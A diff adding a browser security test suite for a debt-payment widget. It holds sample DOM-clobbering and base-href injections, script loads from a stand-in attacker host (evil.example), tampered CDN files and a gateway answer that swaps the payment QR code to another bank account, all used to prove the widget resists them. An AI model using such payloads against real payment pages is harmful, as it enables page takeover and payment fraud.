@@ -1,0 +1,298 @@
+import { decode } from "bysquare/pay";
+import type { Browser, BrowserContext, Page, Request } from "playwright-core";
+import { describe, expect, it } from "vitest";
+import { DEMO_CONFIG, demoConfigJsonChild } from "../../demo/demo-config.mjs";
+import { buildPaymentOrder, encodePayBySquare } from "../../src/domain/pay-by-square";
+import { scanQrPath } from "../helpers/scan-qr-path";
+import { DebtNoticeModel } from "./support/debt-notice.model";
+import { baseUrl, resetGateway, useBrowser } from "./support/harness";
+
+// What a partner page with an HTML-injection hole, or a changed gateway answer, must not be able
+// to do to a debtor (issue 32). The attacker's origin answers every request with code that
+// would mark the page as taken over, so a request that reached it and ran would show.
+const EVIL = "https://evil.example";
+const TAKEN_OVER = "window.__takenOver = (window.__takenOver || 0) + 1;";
+
+interface Opened {
+  page: Page;
+  widget: DebtNoticeModel;
+  /** Requests the page sent to the attacker's origin, as path names. */
+  toAttacker: string[];
+  errors: string[];
+  close(): Promise<void>;
+}
+
+async function openPartnerPage(
+  browser: () => Browser,
+  body: string,
+  prepare?: (context: BrowserContext) => Promise<void>,
+): Promise<Opened> {
+  await resetGateway();
+  const context = await browser().newContext({ viewport: { width: 1280, height: 900 } });
+  const toAttacker: string[] = [];
+  await context.route(`${EVIL}/**`, (route, request: Request) => {
+    toAttacker.push(new URL(request.url()).pathname);
+    const json = request.url().endsWith(".json");
+    return route.fulfill({
+      contentType: json ? "application/json" : "text/javascript",
+      headers: { "access-control-allow-origin": "*" },
+      body: json ? JSON.stringify({ "any message": "Zaplaťte na účet SK96 1100 0000 0029 1859 9669" }) : TAKEN_OVER,
+    });
+  });
+  await context.route("**/injected-partner", (route) =>
+    route.fulfill({
+      contentType: "text/html",
+      body: `<!doctype html><html lang="sk"><head><meta charset="utf-8"><link rel="icon" href="data:,"><title>partner</title>
+        <script src="/dist/debt-notice.umd.js" defer></script></head><body>${body}</body></html>`,
+    }),
+  );
+  await prepare?.(context);
+  const page = await context.newPage();
+  const errors: string[] = [];
+  page.on("pageerror", (error) => errors.push(error.message));
+  await page.goto(baseUrl() + "/injected-partner");
+  const widget = new DebtNoticeModel(page);
+  return { page, widget, toAttacker, errors, close: () => context.close() };
+}
+
+const element = (reference: string, attributes = "") =>
+  `<debt-notice reference="${reference}" api-base="/api/2/union-debt" captcha-site-key="demo-site-key" captcha-src="/captcha/api.js"${attributes}>${demoConfigJsonChild()}</debt-notice>`;
+
+/** The QR code as a banking app reads it: the drawn path -> pixels -> the payment it orders. */
+async function scannedPayment(page: Page) {
+  const path = page.locator("svg.dn-pbs__svg path");
+  await path.waitFor({ state: "attached" });
+  const viewBox = (await page.locator("svg.dn-pbs__svg").getAttribute("viewBox")) ?? "";
+  const text = scanQrPath(viewBox, (await path.getAttribute("d")) ?? "");
+  expect(text).toBeDefined();
+  return decode(text!).payments[0]!;
+}
+
+/** A valid PAY by square text for the same amount and symbol, to another account. */
+const OTHER_ACCOUNT_CODE = (() => {
+  const order = buildPaymentOrder({
+    amountCents: 115075,
+    iban: "SK9611000000002918599669",
+    bic: "",
+    beneficiaryName: DEMO_CONFIG.payee.beneficiaryName,
+    variableSymbol: "",
+    specificSymbol: "",
+    constantSymbol: "",
+    note: "",
+  });
+  if (!order.ok) throw new Error("invalid fixture");
+  return encodePayBySquare(order.order);
+})();
+
+describe("security: what injected markup and changed answers cannot do", () => {
+  const browser = useBrowser();
+
+  // Item 1. Markup such as <img name="currentScript"> shadows document.currentScript (DOM
+  // clobbering); the UMD read its sibling files' folder from it and imported the attacker's
+  // debt-notice.qr.js as a module, and fetched its catalogs from there.
+  it.each([
+    ["<img name=currentScript>", `<img name="currentScript" src="${EVIL}/x/a.js" alt="">`],
+    [
+      "<form name=currentScript data-src>",
+      `<form name="currentScript" data-src="${EVIL}/x/debt-notice.preload.js"></form>`,
+    ],
+    ["<base href> after the widget's script", `<base href="${EVIL}/x/">`],
+  ])(
+    "%s on the partner page: nothing of the widget's is asked from the attacker, the QR code and the Ukrainian texts still come",
+    async (_name, markup) => {
+      const { page, widget, toAttacker, errors, close } = await openPartnerPage(
+        browser,
+        `${markup}${element("d6e5f4-ukrainian")}`,
+      );
+      await widget.ready("uk");
+      const payment = await scannedPayment(page);
+      expect(payment.bankAccounts[0]!.iban).toBe(DEMO_CONFIG.payee.iban);
+      // The Ukrainian catalog came from beside the real script, not the attacker's JSON.
+      expect(await widget.host.locator("[part~='pay-by-square']").innerText()).not.toContain("SK96");
+      expect(await widget.host.locator("h1").innerText()).toMatch(/[а-яіїє]/i);
+      // The captcha script is loaded on Send: from the page's own origin, whatever <base> says.
+      await widget.commentField.fill("Це не мій борг.");
+      await widget.host.locator("form button[type='submit']").click();
+      await expect.poll(() => widget.screen()).toBe("infoProvided");
+      expect(toAttacker.filter((path) => !path.endsWith("/x/a.js"))).toEqual([]);
+      expect(await page.evaluate(() => (window as unknown as { __takenOver?: number }).__takenOver)).toBeUndefined();
+      expect(errors).toEqual([]);
+      await close();
+    },
+  );
+
+  // Item 1, the same hole in a second place: a <debt-notice> that injected markup adds, with a
+  // captcha-src of the attacker's, would load their script when the debtor sends.
+  it("an injected <debt-notice> cannot point captcha-src at another site: it is ignored, with one warning", async () => {
+    const warnings: string[] = [];
+    const { page, widget, toAttacker, close } = await openPartnerPage(
+      browser,
+      element("a1b2c3-man-high").replace('captcha-src="/captcha/api.js"', `captcha-src="${EVIL}/recaptcha.js"`),
+      async (context) => {
+        context.on("console", (message) => {
+          if (message.type() === "warning") warnings.push(message.text());
+        });
+        // Offline here: Google's script fails at once instead of after its 10 s limit.
+        await context.route("https://www.google.com/**", (route) => route.abort());
+      },
+    );
+    await widget.ready();
+    expect(warnings.filter((text) => text.includes("captcha-src"))).toHaveLength(1);
+    await widget.commentField.fill("Toto nie je môj dlh.");
+    await widget.host.locator("form button[type='submit']").click();
+    // Google's default script for the key is what it then asks for (unreachable here).
+    await expect.poll(() => widget.host.locator("form").innerText()).toMatch(/robot/i);
+    expect(toAttacker).toEqual([]);
+    expect(await page.evaluate(() => (window as unknown as { __takenOver?: number }).__takenOver)).toBeUndefined();
+    await close();
+  });
+
+  // The sibling files are checked against this build's digests: a file changed on the way (a
+  // compromised CDN or proxy) is not used.
+  it("a changed debt-notice.qr.js or catalog is refused: no code runs, the text stays, the page says so calmly", async () => {
+    const { page, widget, close } = await openPartnerPage(browser, element("d6e5f4-ukrainian"), async (context) => {
+      await context.route("**/dist/debt-notice.qr.js", (route) =>
+        route.fulfill({
+          contentType: "text/javascript",
+          body: `${TAKEN_OVER} export const payBySquareSymbol = () => null;`,
+        }),
+      );
+      await context.route("**/dist/debt-notice.ua.json", (route) =>
+        route.fulfill({ contentType: "application/json", body: JSON.stringify({ x: "changed" }) }),
+      );
+    });
+    await widget.ready();
+    const section = widget.host.locator("[part~='pay-by-square']");
+    // No Ukrainian catalog: the page stays in Slovak and says so.
+    await expect.poll(() => section.innerText()).toContain("Pre túto platbu nemôžeme zobraziť QR kód.");
+    expect(await section.innerText()).toContain("SK31 1200 0000 1987 4263 7541");
+    expect(await page.evaluate(() => (window as unknown as { __takenOver?: number }).__takenOver)).toBeUndefined();
+    await close();
+  });
+
+  // Item 2. A payBySquare string in the answer used to win for the QR code while the page
+  // printed the host's IBAN beside it.
+  it("a gateway answer with a payBySquare for another account: the QR code pays exactly the account, amount and symbol shown", async () => {
+    const { page, widget, close } = await openPartnerPage(browser, element("a1b2c3-man-high"), async (context) => {
+      await context.route("**/api/2/union-debt/getDetails", async (route) => {
+        const answer = await route.fetch();
+        const body = (await answer.json()) as { entities: Record<string, unknown> };
+        body.entities.payBySquare = OTHER_ACCOUNT_CODE;
+        await route.fulfill({ response: answer, json: body });
+      });
+    });
+    await widget.ready();
+    const payment = await scannedPayment(page);
+    const shown = await widget.host.locator("[part~='pay-by-square']").innerText();
+    expect(shown).toContain("SK31 1200 0000 1987 4263 7541");
+    expect(payment.bankAccounts[0]!.iban).toBe("SK3112000000198742637541");
+    expect(payment.amount).toBe(1150.75);
+    expect(shown).toContain(payment.variableSymbol!);
+    await close();
+  });
+
+  // Item 3. ~150,000 periods (~3 MB) overflowed the chart's Math.max and blanked the whole
+  // widget; 100,000 froze the page for 12 s.
+  it("a 3 MB answer of 150,000 periods: refused calmly, with Try again and the contacts, nothing blank", async () => {
+    const periods = Array.from({ length: 150_000 }, (_, i) => ({
+      obdobie: `${String((i % 12) + 1).padStart(2, "0")}/${1900 + Math.floor(i / 12)}`,
+      dlh: "-1,00",
+    }));
+    const { widget, errors, close } = await openPartnerPage(browser, element("a1b2c3-man-high"), async (context) => {
+      await context.route("**/api/2/union-debt/getDetails", async (route) => {
+        const answer = await route.fetch();
+        const body = (await answer.json()) as { entities: Record<string, unknown> };
+        body.entities.totalDebt = JSON.stringify(periods);
+        await route.fulfill({ response: answer, json: body });
+      });
+    });
+    await widget.root.and(widget.page.locator("[data-screen='notFound']")).waitFor();
+    const view = widget.host.locator("[part~='view']");
+    expect(await view.innerText()).toContain("Chyba je u nás");
+    expect(await view.getByRole("button", { name: "Skúsiť znova" }).count()).toBe(1);
+    expect(await widget.host.locator("[part~='contacts']").innerText()).toContain("0800 100 200");
+    expect(errors).toEqual([]);
+    await close();
+  });
+
+  it("a history longer than 1,200 periods (but under the size limit): the breakdown is called unavailable, the rest stands", async () => {
+    const periods = Array.from({ length: 1_500 }, () => ({ obdobie: "01/2025", dlh: "-1,00" }));
+    const { widget, errors, close } = await openPartnerPage(browser, element("a1b2c3-man-high"), async (context) => {
+      await context.route("**/api/2/union-debt/getDetails", async (route) => {
+        const answer = await route.fetch();
+        const body = (await answer.json()) as { entities: Record<string, unknown> };
+        body.entities.totalDebt = JSON.stringify(periods);
+        await route.fulfill({ response: answer, json: body });
+      });
+    });
+    await widget.ready();
+    await widget.host.getByRole("button", { name: /celkový nedoplatok/i }).click();
+    await widget.root.and(widget.page.locator("[data-screen='totalDebt']")).waitFor();
+    expect(await widget.host.locator("[part~='view']").innerText()).toContain("Prehľad podľa období");
+    expect(await widget.host.locator("table").count()).toBe(0);
+    expect(await widget.host.locator("[part~='contacts']").count()).toBe(1);
+    expect(errors).toEqual([]);
+    await close();
+  });
+
+  // Item 4. The demo's instalment link carried the reference (a credential) in its query,
+  // into the calendar site's logs and its Referers.
+  it("the demo's instalment link carries the reference in its fragment: no server and no Referer gets it", async () => {
+    const { widget, close } = await openPartnerPage(browser, element("a1b2c3-man-high"));
+    await widget.ready();
+    const href = await widget.host.locator("[part~='calendar'] a").getAttribute("href");
+    const url = new URL(href!);
+    expect(url.search).toBe("");
+    expect(url.pathname).not.toContain("a1b2c3");
+    expect(url.hash).toBe("#ref=a1b2c3-man-high");
+    await close();
+  });
+
+  // Item 5. The standalone page with the headers docs/security.md asks for: it works under them
+  // (the inline style and preload script by their hashes) and no other site can frame it.
+  it("the standalone page: served with the recommended headers, it works under them and cannot be framed", async () => {
+    await resetGateway();
+    const response = await fetch(`${baseUrl()}/d6e5f4-ukrainian`);
+    const policy = response.headers.get("content-security-policy") ?? "";
+    for (const directive of ["base-uri 'none'", "object-src 'none'", "frame-ancestors 'none'", "form-action 'none'"])
+      expect(policy).toContain(directive);
+    expect(policy).not.toContain("unsafe-inline");
+    expect(response.headers.get("x-frame-options")).toBe("DENY");
+    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
+    expect(response.headers.get("referrer-policy")).toBe("same-origin");
+
+    const context = await browser().newContext({ viewport: { width: 1280, height: 900 } });
+    await context.addInitScript(() => {
+      (window as unknown as { __violations: string[] }).__violations = [];
+      document.addEventListener("securitypolicyviolation", (event) =>
+        (window as unknown as { __violations: string[] }).__violations.push(
+          `${event.effectiveDirective} ${event.blockedURI}`,
+        ),
+      );
+    });
+    const page = await context.newPage();
+    await page.goto(`${baseUrl()}/d6e5f4-ukrainian`);
+    const widget = new DebtNoticeModel(page);
+    await widget.ready("uk");
+    await page.locator("svg.dn-pbs__svg path").waitFor({ state: "attached" });
+    await widget.languageChooser.selectOption("sk");
+    await widget.ready("sk");
+    await widget.commentField.fill("Toto nie je môj dlh.");
+    expect(await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)).toEqual([]);
+
+    await context.route("https://framer.example/", (route) =>
+      route.fulfill({ contentType: "text/html", body: `<iframe src="${baseUrl()}/a1b2c3-man-high"></iframe>` }),
+    );
+    const framer = await context.newPage();
+    await framer.goto("https://framer.example/");
+    await framer.waitForLoadState("load");
+    const framed = framer.frames().find((frame) => frame !== framer.mainFrame());
+    expect(
+      await framed
+        ?.locator("debt-notice")
+        .count()
+        .catch(() => 0),
+    ).toBe(0);
+    await context.close();
+  });
+});
